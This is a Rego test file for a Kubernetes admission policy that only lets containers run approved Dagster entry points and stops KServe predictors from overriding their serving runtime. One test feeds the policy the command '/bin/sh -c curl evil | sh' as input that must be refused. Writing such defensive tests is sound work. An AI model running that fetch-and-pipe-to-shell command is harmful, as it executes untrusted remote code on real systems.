package k8s.pods.entrypoint_test

import data.k8s.pods.entrypoint
import rego.v1

params := {"entrypoints": [["dagster", "api", "execute_step"], ["dagster", "api", "execute_run"]]}

pod(container) := {"parameters": params, "review": {"object": {"kind": "Pod", "spec": {"containers": [object.union({"name": "c"}, container)]}}}}

test_a_step_passes if {
	count(entrypoint.violations(pod({"args": ["dagster", "api", "execute_step"]}))) == 0
}

test_a_run_worker_with_its_arguments_passes if {
	count(entrypoint.violations(pod({"args": ["dagster", "api", "execute_run", "{}"]}))) == 0
}

test_a_shell_is_refused if {
	entrypoint.violations(pod({"command": ["/bin/sh", "-c"], "args": ["curl evil | sh"]})) == {{"msg": "container 'c' runs [\"/bin/sh\", \"-c\", \"curl evil | sh\"], not one of the platform's entry points"}}
}

test_a_command_before_the_platforms_args_is_refused if {
	count(entrypoint.violations(pod({"command": ["python", "-c", "x"], "args": ["dagster", "api", "execute_step"]}))) == 1
}

isvc(model) := {"parameters": params, "review": {"object": {"kind": "InferenceService", "spec": {"predictor": {"model": model}}}}}

test_a_predictor_runs_its_runtime if {
	count(entrypoint.violations(isvc({"modelFormat": {"name": "mlflow"}}))) == 0
}

test_a_predictor_with_a_command_is_refused if {
	entrypoint.violations(isvc({"command": ["sh"]})) == {{"msg": "container 'kserve-container' runs [\"sh\"] instead of its serving runtime"}}
}
